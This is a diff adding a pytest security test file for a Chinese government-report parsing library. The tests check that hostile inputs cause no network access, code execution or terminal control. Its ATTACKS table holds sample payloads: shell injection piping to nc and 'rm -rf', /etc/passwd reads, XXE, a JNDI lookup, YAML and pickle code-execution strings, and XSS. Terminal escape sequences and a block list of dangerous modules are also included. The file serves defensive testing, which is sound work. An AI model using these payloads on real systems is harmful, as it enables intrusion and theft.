@@ -1,0 +1,353 @@
+"""What SECURITY.md promises: nothing reaches out, nothing in a text is run, and nothing in it acts where it is shown."""
+
+from __future__ import annotations
+
+import ast
+import json
+import os
+import re
+import subprocess
+import sys
+import unicodedata
+from collections.abc import Iterator
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+
+import govreport
+from commands import command_lines, run
+from govreport.grammar import grammar
+from govreport.walk import walk
+from watched import HOSTILE, Happening, reaches_out
+
+ROOT = Path(__file__).resolve().parent.parent
+SRC = ROOT / "src"
+MODULES = {str(path.relative_to(SRC)): path for path in sorted((SRC / "govreport").rglob("*.py"))}
+
+# ---- what the process does ---------------------------------------------------------------------------------------
+
+SAID = "关于工作的报告\n一、甲事项\n（一）乙事项。坚持依法行政。一是抓落实；二是抓监督。\n二、丙事项\n正文内容。\n某市人民政府\n2025年1月6日\n"
+HARMLESS = {
+    "utf-8": SAID.encode(),
+    "gb18030": SAID.encode("gb18030"),
+    "big5": "關於工作的報告\n一、甲事項\n持續推進依法行政，區(qū)政府。\n二、乙事項\n正文。\n".encode(
+        "big5-hkscs", "replace"
+    ),
+    "utf-16": SAID.encode("utf-16"),
+    "undecodable": SAID.encode() + b"\xff\xfe\n",
+    "empty": b"",
+}
+"""One file for each way that a file can take through the library."""
+
+ATTACKS = {
+    "python": "__import__('os').system('id')",
+    "format string": "{0.__class__.__mro__} %(asctime)s %n {{7*7}} ${7*7} #{7*7}",
+    "shell": "$(id) `id` ; rm -rf . | nc example.org 80 &&",
+    "link": "http://example.org/a.dtd file:///etc/passwd \\\\example.org\\share ../../../../etc/passwd",
+    "look-up": "${jndi:ldap://example.org/a}",
+    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>&lt;&#x0;",
+    "entities": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
+    "yaml": "!!python/object/apply:os.system ['id']",
+    "pickle": "cos\nsystem\n(S'id'\ntR.",
+    "console markup": "[link=http://example.org][bold red]红[/] :pile_of_poo: [/]",
+    "doctest": ">>> import os; os.system('id')",
+    "spreadsheet": '=HYPERLINK("http://example.org","甲")',
+    "workflow command": "::set-output name=a::b\n##[error]c",
+    "pattern": "(a+)+$ [ \\1 (?P<n>.*)",
+    "JSON": '{"format": "govreport/1", "__class__": "os.system", "$ref": "http://example.org/a"}',
+    "NUL": "甲\x00乙",
+}
+"""What has made other programs do more than read."""
+
+
+def attacking(attack: str) -> str:
+    """A report with the attack in its title, a heading, an enumeration and its signature, and the attack alone."""
+    return f"关于{attack}的报告\n一、{attack}\n正文。一是{attack}。二是乙。\n二、丙\n（一）{attack}。正文。\n{attack}\n某市{attack}人民政府\n2025年1月6日\n"
+
+
+PLAIN = {name: value for name, value in os.environ.items() if "COV" not in name} | {"PYTHONDONTWRITEBYTECODE": "1"}
+"""The environment of a watched process: neither a measurement of coverage nor an import writes files in it."""
+
+
+@pytest.fixture(scope="module")
+def watched(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[Happening]]:
+    """What a process did while everything that the library offers was used on harmless and on hostile files."""
+    folder = tmp_path_factory.mktemp("watched")
+    files = {"harmless": HARMLESS, "hostile": {name: attacking(text).encode() for name, text in ATTACKS.items()}}
+    paths: dict[str, list[str]] = {}
+    for kind, contents in files.items():
+        (folder / kind).mkdir()
+        for name, content in contents.items():
+            (folder / kind / name).write_bytes(content)
+        paths[kind] = [str(folder / kind / name) for name in contents]
+    done = subprocess.run(
+        [sys.executable, str(ROOT / "tests" / "watched.py"), *paths["harmless"], HOSTILE, *paths["hostile"]],
+        capture_output=True,
+        check=False,
+        cwd=folder,
+        env=PLAIN,
+    )
+    assert done.returncode == 0, done.stderr.decode()
+    return {time: [(event, detail) for event, detail in seen] for time, seen in json.loads(done.stdout).items()}
+
+
+@pytest.mark.parametrize("time", ["cold", "warm", "hostile"])
+def test_nothing_reaches_out(watched: dict[str, list[Happening]], time: str) -> None:
+    assert watched[time]
+    assert reaches_out(watched[time]) == []
+
+
+def test_a_hostile_text_is_read_and_nothing_else(watched: dict[str, list[Happening]]) -> None:
+    """Nothing is run, opened or imported for it that was not for a harmless one."""
+    news = set(watched["hostile"]) - set(watched["warm"])
+    assert {event for event, _ in news} == {"read"}
+    assert {Path(path).name for _, path in news} == ATTACKS.keys()
+
+
+def test_nothing_is_read_but_code_data_and_the_file(watched: dict[str, list[Happening]]) -> None:
+    read = {path for event, path in watched["warm"] if event == "read"}
+    assert {Path(path).name for path in read} == HARMLESS.keys()
+
+
+def test_the_watch_sees_what_reaches_out() -> None:
+    done = subprocess.run(
+        [sys.executable, "-c", "import watched; print(watched.unseen())"],
+        capture_output=True,
+        check=True,
+        cwd=ROOT / "tests",
+        env=PLAIN,
+    )
+    assert done.stdout.strip() == b"[]"
+
+
+# ---- what the code could do --------------------------------------------------------------------------------------
+
+ENGINES = """
+    asyncio code codeop ctypes dbm ftplib http marshal multiprocessing pickle poplib pty requests runpy shelve smtplib
+    socket sqlite3 ssl subprocess tempfile urllib webbrowser xmlrpc yaml
+""".split()  # noqa: SIM905  (words read better than a list of strings)
+RUNS = frozenset({"eval", "exec", "compile", "__import__", "input", "import_module", "system", "popen", "startfile"})
+WRITES = {"govreport/cli/streams.py": "os.devnull, in the place of a stream that the caller closed"}
+"""The only module that opens anything for writing, and why."""
+
+
+@pytest.mark.parametrize("name", MODULES)
+def test_no_module_has_the_means(name: str) -> None:
+    tree = ast.parse(MODULES[name].read_text(encoding="utf-8"))
+    calls = [node for node in ast.walk(tree) if isinstance(node, ast.Call)]
+    assert [module for node in ast.walk(tree) for module in imported(node) if module in ENGINES] == []
+    assert [call.lineno for call in calls if runs(call.func)] == []
+    assert any(map(opens_for_writing, calls)) is (name in WRITES)
+
+
+def imported(node: ast.AST) -> Iterator[str]:
+    """The top-level packages that a statement imports."""
+    if isinstance(node, ast.Import):
+        yield from (alias.name.split(".")[0] for alias in node.names)
+    elif isinstance(node, ast.ImportFrom):
+        yield (node.module or "").split(".")[0]
+
+
+def runs(function: ast.expr) -> bool:
+    """Whether what is called runs code; ``re.compile`` does not."""
+    if isinstance(function, ast.Attribute):
+        of_re = isinstance(function.value, ast.Name) and function.value.id == "re"
+        return function.attr in RUNS and not of_re
+    return isinstance(function, ast.Name) and function.id in RUNS
+
+
+def opens_for_writing(call: ast.Call) -> bool:
+    named = call.func.attr if isinstance(call.func, ast.Attribute) else getattr(call.func, "id", "")
+    if named in {"write_text", "write_bytes", "unlink", "mkdir", "touch", "rmdir", "symlink_to", "chmod"}:
+        return True
+    modes = [
+        word.value for word in (*call.args, *(pair.value for pair in call.keywords)) if isinstance(word, ast.Constant)
+    ]
+    return named == "open" and any(isinstance(mode, str) and set(mode) & set("wax+") for mode in modes)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "eval(text)",
+        "builtins.exec(text)",
+        "os.system(text)",
+        "Path(a).open('w')",
+        "open(a, mode='ab')",
+        "path.unlink()",
+    ],
+)
+def test_the_look_at_the_code_sees_what_runs_or_writes(code: str) -> None:
+    call = ast.parse(code, mode="eval").body
+    assert isinstance(call, ast.Call)
+    assert runs(call.func) or opens_for_writing(call)
+
+
+def test_the_grammar_is_kept_in_memory_alone() -> None:
+    """Lark could pickle a grammar into the folder for temporary files, where anyone may leave one to be loaded."""
+    assert not grammar().lark.options.cache
+
+
+# ---- what acts where it is shown ---------------------------------------------------------------------------------
+
+ACTS = {
+    "colour": "\x1b[31m",
+    "clear the screen": "\x1b[2J\x1b[H",
+    "title of the window": "\x1b]0;甲\x07",
+    "link": "\x1b]8;;http:example.org\x1b\\甲\x1b]8;;\x1b\\",
+    "clipboard": "\x1b]52;c;aWQ=\x07",
+    "question to the terminal": "\x1b[c\x1b[6n\x05",
+    "device control": "\x1bP+q544e\x1b\\",
+    "8-bit controls": "\x9b2J\x9d0;甲\x9c",
+    "backspace": "甲\x08\x08乙",
+    "overwriting": "甲\r乙",
+    "bell and NUL": "\x07\x00",
+    "delete": "甲\x7f乙",
+    "form feed": "甲\x0c\x0b乙",
+    "right-to-left override": "\u202e甲\u202c",
+    "isolate": "\u2067甲\u2069",
+    "marks of direction": "\u200e\u200f\u061c",
+    "line separators": "甲\u2028乙\u2029丙\x85丁",
+}
+"""What makes a terminal do something else than show it."""
+
+EXACT = ("text", "json", "clean")
+"""What these print into a pipe is for programs, and stays as it is; on a terminal it is made harmless."""
+
+
+def acting(shown: str) -> set[str]:
+    """The characters of an output that a terminal does not show but obeys."""
+    return {
+        character
+        for character in shown.replace("\r\n", "\n")
+        if (unicodedata.category(character) in {"Cc", "Zl", "Zp"} and character not in "\t\n")
+        or unicodedata.bidirectional(character) in {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
+        or character in "\u200e\u200f\u061c"
+    }
+
+
+def numbered(sequence: str) -> str:
+    """A report with the sequence in everything that has a text, damage and gaps in its numbering among it."""
+    return (
+        f"索引号：{sequence}1144\n关于{sequence}工作的报告\n（{sequence}一）甲\n一、{sequence}加强领导\n正文。區{sequence}(qū)政府，區(qū)政府。\n"
+        f"项目|{sequence}|数\n甲|乙|{sequence}\n三、{sequence}\n正文&nbsp;{sequence}。一是{sequence}甲；二是乙。\n"
+        f"某市{sequence}人民政府\n2025年1月6日\n附件1\n{sequence}清单\n一、{sequence}甲\n"
+    )
+
+
+@pytest.fixture
+def plain_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
+    """A terminal on which the command itself writes no colours, so that every escape sequence is a stranger."""
+    monkeypatch.setenv("TERM", "dumb")
+
+
+@pytest.fixture(scope="module")
+def acting_files(tmp_path_factory: pytest.TempPathFactory) -> list[str]:
+    """A file for each of what acts."""
+    folder = tmp_path_factory.mktemp("acting")
+    for acts, sequence in ACTS.items():
+        (folder / f"{acts}.txt").write_bytes(numbered(sequence).encode())
+    return [str(folder / f"{acts}.txt") for acts in ACTS]
+
+
+FILES = "FILES"
+each_command_line = pytest.mark.parametrize("arguments", list(command_lines(FILES)), ids=" ".join)
+
+
+def on(files: list[str], arguments: list[str]) -> list[str]:
+    """A command line with files in the place of ``FILES``."""
+    return [word for one in arguments for word in (files if one == FILES else [one])]
+
+
+@pytest.mark.usefixtures("plain_terminal")
+@each_command_line
+def test_nothing_in_a_text_acts_on_a_terminal(arguments: list[str], acting_files: list[str]) -> None:
+    _, shown, told = run(on(acting_files, arguments), terminal=True)
+    assert shown or "--severity" in arguments
+    assert acting(shown + told) == set()
+
+
+@pytest.mark.usefixtures("plain_terminal")
+@each_command_line
+def test_what_is_meant_for_a_reader_never_acts(arguments: list[str], acting_files: list[str]) -> None:
+    exact = arguments[0] in EXACT and "--diff" not in arguments
+    _, shown, told = run(on(acting_files, arguments))
+    assert bool(acting(shown)) is exact
+    assert acting(told) == set()
+
+
+@pytest.mark.usefixtures("plain_terminal")
+@pytest.mark.skipif(os.name == "nt", reason="Windows has no such file names")
+@each_command_line
+def test_nothing_in_the_name_of_a_file_acts(arguments: list[str], tmp_path: Path) -> None:
+    names = [sequence for sequence in ACTS.values() if not set(sequence) & {"\x00", "/"}]
+    there = [tmp_path / name for name in names]
+    for file in there:
+        file.write_bytes(numbered("").encode() + b"\xff\n")
+    missing = [tmp_path / f"{name}.missing" for name in names]
+    _, shown, told = run(on([str(file) for file in there + missing], arguments), terminal=True)
+    assert acting(shown + told) == set()
+    assert told.count("missing") == told.count("U+FFFD") == (len(names) if FILES in arguments else 0)
+
+
+@pytest.mark.usefixtures("plain_terminal")
+@pytest.mark.parametrize("acts", [acts for acts, sequence in ACTS.items() if "\x00" not in sequence])
+def test_nothing_in_wrong_usage_acts(acts: str, tmp_path: Path) -> None:
+    for arguments in ([ACTS[acts]], ["tree", "--encoding", ACTS[acts], "a"], ["check", "--severity", ACTS[acts], "a"]):
+        code, shown, told = run(arguments, terminal=True)
+        assert code == 2
+        assert acting(shown + told) == set(), arguments
+
+
+@pytest.mark.skipif(os.name == "nt", reason="Windows has no such file names")
+def test_nothing_in_a_text_or_a_name_gives_an_order_to_a_ci_system(tmp_path: Path) -> None:
+    file = tmp_path / "甲\n::set-output name=a::b,line=9"
+    file.write_bytes(numbered("\r::error file=a::b\n##[error]").encode())
+    code, shown, _ = run(["check", "--severity", "info", "--output-format", "github", str(file)])
+    orders = [
+        re.fullmatch(r"::(?:warning|notice) file=([^:,]+),line=\d+,col=\d+,title=[^:,]+::.+", line)
+        for line in shown.splitlines()
+    ]
+    assert code == 1
+    assert {order and order[1].endswith("甲 %3A%3Aset-output name=a%3A%3Ab%2Cline=9") for order in orders} == {True}
+
+
+@pytest.mark.parametrize("acts", ACTS)
+def test_nothing_acts_in_what_python_shows(acts: str) -> None:
+    """Of a node in the interpreter, of an error in a traceback."""
+    report = govreport.parse(numbered(ACTS[acts]), name=ACTS[acts])
+    for node in (*walk(report), *report.diagnostics, *report.repairs):
+        assert acting(repr(node)) == set()
+    for misuse in (report.find, govreport.read, govreport.Report.from_json):
+        with pytest.raises(govreport.GovReportError) as raised:
+            misuse(ACTS[acts])
+        assert acting(str(raised.value)) == set()
+
+
+# ---- pages -------------------------------------------------------------------------------------------------------
+
+
+class Page(HTMLParser):
+    """The tags of a page, and its text."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.text = ""
+        self.feed(page)
+
+    def handle_starttag(self, tag: str, attributes: object) -> None:
+        self.tags.add(tag)
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+@pytest.mark.parametrize("attack", ["<script>alert(1)</script>", "</ul><b onclick='a'>", '"&lt;', "]]>", "<!--"])
+def test_nothing_in_a_text_is_markup_in_a_notebook(attack: str) -> None:
+    harmless = Page(govreport.parse(numbered("甲"))._repr_html_())
+    report = govreport.parse(numbered(attack), cleaning=())
+    page = Page(report._repr_html_())
+    assert page.tags == harmless.tags
+    assert attack in page.text
